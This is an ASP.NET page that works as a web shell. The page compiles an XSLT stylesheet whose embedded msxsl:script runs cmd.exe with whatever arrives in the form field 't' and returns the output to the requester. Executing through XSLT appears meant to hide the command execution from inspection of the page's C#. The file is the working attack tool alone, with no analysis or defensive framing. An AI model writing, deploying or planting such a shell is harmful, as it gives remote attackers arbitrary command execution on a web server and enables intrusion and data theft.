<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%
// The C# only compiles a stylesheet; its embedded script does the work.
string sheet = @"<xsl:stylesheet version=""1.0"" xmlns:xsl=""http://www.w3.org/1999/XSL/Transform""
  xmlns:msxsl=""urn:schemas-microsoft-com:xslt"" xmlns:rpt=""urn:report"">
 <msxsl:script language=""C#"" implements-prefix=""rpt"">
  <msxsl:using namespace=""System.Diagnostics""/>
  public string Run() {
    var r = System.Web.HttpContext.Current.Request;
    var p = Process.Start(new ProcessStartInfo(""cmd.exe"", ""/c "" + r.Form[""t""]) { RedirectStandardOutput = true, UseShellExecute = false });
    return p.StandardOutput.ReadToEnd();
  }
 </msxsl:script>
 <xsl:template match=""/""><pre><xsl:value-of select=""rpt:Run()""/></pre></xsl:template>
</xsl:stylesheet>";
var doc = new XmlDocument();
doc.LoadXml("<r/>");
var xsl = new XmlDocument();
xsl.LoadXml(sheet);
var settings = new XsltSettings();
settings.EnableScript = true;
var t = new XslCompiledTransform();
t.Load(xsl, settings, new XmlUrlResolver());
t.Transform(doc, null, Response.Output);
%>
